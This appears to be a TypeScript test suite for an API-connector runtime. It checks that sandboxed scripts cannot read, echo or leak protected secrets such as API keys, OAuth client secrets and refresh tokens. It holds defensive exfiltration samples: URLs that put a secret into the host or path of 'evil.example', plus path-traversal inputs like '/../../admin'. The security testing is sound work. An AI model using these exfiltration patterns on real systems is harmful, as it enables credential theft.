/** Ways in which a script could get at the value that a placeholder stands for. */
import { describe, expect, test } from 'vitest'
import { beginExecution } from '../../runtime/call/execution.ts'
import { refreshRenewal } from '../../runtime/call/refresh.ts'
import { resolveCall } from '../../runtime/call/resolve.ts'
import { receiveWebhook } from '../../runtime/call/webhook.ts'
import type { WireRequest } from '../../runtime/model/call.ts'
import type { Json } from '../../runtime/model/json.ts'
import { Secret } from '../../runtime/model/secret.ts'
import { type Answer, type FakeHook, tokens, World, type WorldOptions } from '../support/world.ts'

const never = new AbortController().signal
const key = 'Key/With+Case=='
const encoded = 'Key%2FWith%2BCase%3D%3D'

const definition = `
base_url: https://api.acme.example/v1
auth: { type: api_key, in: header, as: X-Key }
script: main.js
methods:
  get: { path: /things }
  one: { path: '/things/{{id}}' }
`

function world(over: Partial<WorldOptions> = {}) {
  return new World({
    definition,
    auth: { kind: 'api_key', key: new Secret(key) },
    hooks: { before_action: () => true },
    vendor: () => ({ json: {} }),
    ...over,
  })
}

/** What one `http_request` of a script comes to. */
async function ask(
  argument: (secret: string) => Json,
  { vendor = fine, value = key }: { vendor?: WorldOptions['vendor']; value?: string } = {},
) {
  const acme = world({ vendor, auth: { kind: 'api_key', key: new Secret(value) } })
  await acme.call()
  const [job] = acme.jobs
  const secret = JSON.parse(job?.globals.method_auth_value?.json ?? '""') as string
  const sent = acme.requests.length
  const answer = await job?.capability('http_request', argument(secret), never)
  return { answer, secret, request: acme.requests[sent] as WireRequest | undefined }
}

const fine = (): Answer => ({ json: {} })

describe('http_request', () => {
  test.each([
    ['as a host', (secret: string) => `https://${secret}.evil.example/`],
    [
      'in a host, with a mark on its last letter',
      (secret: string) => `https://a${secret}\u0301.evil.example/`,
    ],
    ['in a path', (secret: string) => `https://evil.example/${secret}`],
    [
      'across the end of what is shown',
      (secret: string) => `https://evil.example/${'x'.repeat(465)}${secret}`,
    ],
  ])('tells no secret that it was given %s of an address that is not declared', async (_, url) => {
    const value = 'KeyOfLettersOnly'
    const { answer, request } = await ask((secret) => ({ url: url(secret) }), { value })
    expect(request).toBeUndefined()
    expect(answer).toMatchObject({ ok: false, message: expect.stringContaining('not allowed') })
    expect(JSON.stringify(answer).toLowerCase()).not.toContain('key')
    expect(JSON.stringify(answer)).not.toContain('xxx')
  })

  test('puts a secret into a declared address', async () => {
    const { request } = await ask((secret) => ({ url: `https://api.acme.example/v1/${secret}` }))
    expect(request?.url).toBe(`https://api.acme.example/v1/${encoded}`)
  })

  test.each([
    ['a header', { headers: { 'x-echo': key } }],
    ['a cookie, percent-encoded', { headers: { 'set-cookie': `session=${encoded}` } }],
    ['JSON', { json: { echo: key } }],
    ['JSON of PHP', { text: JSON.stringify({ echo: key }).replaceAll('/', '\\/') }],
    ['JSON of .NET', { text: JSON.stringify({ echo: key }).replaceAll('+', '\\u002B') }],
    ['JSON of Gson', { text: JSON.stringify({ echo: key }).replaceAll('=', '\\u003d') }],
    ['a link', { json: { next: `https://api.acme.example/v1?key=${encoded}` } }],
    [
      'a link of lower case',
      {
        json: {
          next: `/v1?key=${encoded.replace('%2F', '%2f').replace('%2B', '%2b').replaceAll('%3D', '%3d')}`,
        },
      },
    ],
  ])('conceals a secret that comes back in %s', async (_, echo: Answer) => {
    const { answer, secret } = await ask(() => ({ url: 'https://api.acme.example/v1/echo' }), {
      vendor: ({ url }) => (url.endsWith('/echo') ? echo : {}),
    })
    const text = JSON.stringify(answer)
    expect(text).toContain(secret)
    expect(text).not.toContain('With')
  })
})

describe('a script', () => {
  const named = (secret: string) =>
    Object.fromEntries(secret.match(/hkl_.{32}/g)?.map((one, index) => [`x${index}`, one]) ?? [])

  async function askFor(name: string, argument: (secret: string) => Json, value = key) {
    const acme = world({ auth: { kind: 'api_key', key: new Secret(value) } })
    await acme.call()
    const [job] = acme.jobs
    const secret = JSON.parse(job?.globals.method_auth_value?.json ?? '""') as string
    return job?.capability(name, argument(secret), never)
  }

  test.each([
    ['http_request', (secret: string) => ({ url: 'https://api.acme.example', data: secret })],
    ['http_request', (secret: string) => ({ url: 'https://api.acme.example', data: [[secret]] })],
    [
      'http_request',
      (secret: string) => ({ url: 'https://api.acme.example', headers: named(secret) }),
    ],
    [
      'http_request',
      (secret: string) => ({ url: 'https://api.acme.example', parameters: named(secret) }),
    ],
    ['btoa', (text: string) => ({ text, charset: 'UTF-8' })],
  ])('cannot fill the memory by naming a secret very often to %s', async (name, argument) => {
    const many = (secret: string) => argument(secret.repeat(1_000))
    expect(await askFor(name, many, 'x'.repeat(2_000))).toMatchObject({ ok: false })
  })

  test('is not told what in a secret is no Base64', async () => {
    expect(await askFor('atob', (text) => ({ text, charset: 'UTF-8' }), 'ab!cdefg')).toEqual({
      ok: false,
      message: 'the secret cannot be converted',
    })
  })

  test('keeps nobody waiting with a key that is no key', async () => {
    const key = '-----BEGIN A-----'.repeat(200_000)
    const answer = await askFor('cyclr_sign', () => ({ algorithm: 'RSA-SHA1', key, value: 'v' }))
    expect(answer).toMatchObject({ ok: false, message: expect.stringContaining('RSA private key') })
  })
})

describe('the answer of a call', () => {
  test('shows scripts no secret in its headers or in the words of its status', async () => {
    const seen: Record<string, Json>[] = []
    const acme = world({
      hooks: {
        after_error: (globals) => void seen.push({ ...globals }),
        after_action: (globals) => void seen.push({ ...globals }),
      },
      vendor: (_, nth) => ({
        status: nth === 1 ? 200 : 400,
        reason: key,
        headers: { 'x-echo': key },
        json: {},
      }),
    })
    await acme.call()
    await acme.call()
    expect(seen).toHaveLength(2)
    expect(seen[0]).toHaveProperty('method_response_headers')
    expect(JSON.stringify(seen)).not.toContain('With')
  })

  test('shows scripts no secret in XML', async () => {
    const seen: Json[] = []
    const acme = world({
      hooks: { after_error: (globals) => void seen.push(globals.method_error ?? null) },
      vendor: () => ({
        status: 400,
        headers: { 'content-type': 'text/xml' },
        text: `<error>${key}</error>`,
      }),
    })
    await acme.call()
    expect(seen).toHaveLength(1)
    expect(JSON.stringify(seen)).not.toContain('With')
  })

  test('has the next page after a link with a secret in it', async () => {
    const acme = world({
      definition: definition.replace(
        'get: { path: /things }',
        'get: { path: /things, paging: { next_url: headers.link } }',
      ),
      vendor: (_, nth) =>
        nth === 1
          ? { json: [1], headers: { link: `</v1/things?page=2&key=${encoded}>; rel=next` } }
          : { json: [2] },
    })
    expect(await acme.call()).toMatchObject({ kind: 'success', content: [1, 2] })
    expect(acme.requests[1]?.url).toBe(`https://api.acme.example/v1/things?page=2&key=${encoded}`)
  })
})

describe('a webhook', () => {
  test('shows scripts no secret that its sender knows, and lets them compare it', async () => {
    const seen: Record<string, Json>[] = []
    const acme = world({
      definition: definition.replace('methods:', 'methods:\n  hook: { type: webhook }'),
      hooks: { after_webhook: (globals) => void seen.push({ ...globals }) },
    })
    const call = await resolveCall(
      { tenant: 't', connector: 'acme', method: 'hook', connection: 'c' },
      acme.registry(),
      () => 'id',
    )
    const received = {
      method: 'POST',
      url: `/hook?token=${encoded}`,
      headers: { 'X-Token': key },
      body: '{}',
    }
    await receiveWebhook(call, received, { ports: acme.ports(), signal: never })
    const [globals] = seen
    expect(JSON.stringify(globals)).not.toContain('With')
    expect(globals?.method_request_headers).toEqual({ 'x-token': globals?.method_auth_value })
    expect(globals?.method_request_parameters).toEqual({ token: globals?.method_auth_value })
  })
})

describe('a part of an address', () => {
  test.each(['hkl_/../../admin', 'hkl_?x=1', 'a/b', '\ud800'])(
    'stays one segment: %j',
    async (id) => {
      const acme = world()
      await acme.call({ method: 'one', input: { id } })
      const url = new URL(acme.requests[0]?.url ?? '')
      expect(url.pathname.split('/')).toHaveLength(4)
      expect(url.pathname).toMatch(/^\/v1\/things\/./)
      expect(url.search).toBe('')
    },
  )
})

describe('a hook over token answers', () => {
  const oauth = `
base_url: https://api.acme.example
auth: { type: oauth2, grant: authorization_code, authorization_url: https://acme.example/authorize,
        token_url: https://api.acme.example/token, client_id: id }
script: main.js
methods: { get: { path: /things } }
`
  const refresh = 'refresh-token-of-the-connection'

  async function renew(hooks: Readonly<Record<string, FakeHook>>, answer: Answer) {
    const acme = new World({
      definition: oauth,
      auth: tokens('access', refresh),
      properties: { ClientSecret: 'the-client-secret' },
      hooks,
      vendor: () => answer,
    })
    const call = await resolveCall(
      { tenant: 't', connector: 'acme', method: 'get', connection: 'c' },
      acme.registry(),
      () => 'id',
    )
    using execution = beginExecution(call, acme.ports(), never)
    const renewal = refreshRenewal(execution, [])
    const raw = await renewal.send(acme.credential, never)
    return await renewal.read(raw, acme.credential).then(
      () => null,
      (error: Error) => error,
    )
  }

  test.each([
    ['whole', ''],
    ['cut short', 'x'.repeat(185)],
  ])('cannot have a secret read to the next one as an error, %s', async (_, before) => {
    const seen: Json[] = []
    const error = await renew(
      {
        after_oauth2_refresh: (globals) => {
          globals.method_response = { error: `${before}${String(globals.oauth_client_secret)}` }
        },
        after_oauth2_refresh_error: (globals) => void seen.push(globals.method_error ?? null),
      },
      { json: { access_token: 'new' } },
    )
    expect(seen).toHaveLength(1)
    expect(JSON.stringify(seen)).not.toMatch(/the-cl/)
    expect(error?.message).not.toMatch(/the-cl/)
  })

  test('sees no refresh token that the vendor quotes in its refusal', async () => {
    const seen: Json[] = []
    const error = await renew(
      { after_oauth2_refresh_error: (globals) => void seen.push(globals.method_error ?? null) },
      { status: 400, json: { error: 'bad', error_description: `not ${refresh}` } },
    )
    expect(seen).toHaveLength(1)
    expect(JSON.stringify(seen)).not.toContain(refresh)
    expect(error?.message).toContain('not [secret]')
  })
})

describe('a lookup', () => {
  test('puts no secret where scripts see it as it is', async () => {
    const acme = new World({
      definition: `
base_url: https://api.acme.example
auth: { type: session }
properties:
  Pass: { in: script, sensitive: true }
  Plain: { in: script, sensitive: false }
post_install: { method: login }
script: main.js
methods:
  get: { path: /things }
  login: { verb: POST, path: /login, body_type: json, ignore_auth: true }
`,
      properties: { Pass: 'password-1' },
      hooks: {
        after_action: (globals) => {
          const { Pass } = globals.script_parameters as Record<string, Json>
          if (String(globals.method_endpoint).endsWith('/login'))
            globals.method_response = { Plain: Pass ?? null }
          else throw Object.assign(new Error(), { name: 'AuthSessionException' })
        },
      },
      vendor: () => ({ json: {} }),
    })
    expect(await acme.call()).toMatchObject({
      kind: 'failure',
      failure: { reason: 'not-sensitive' },
    })
    expect(acme.credential.session).toEqual({})
  })
})
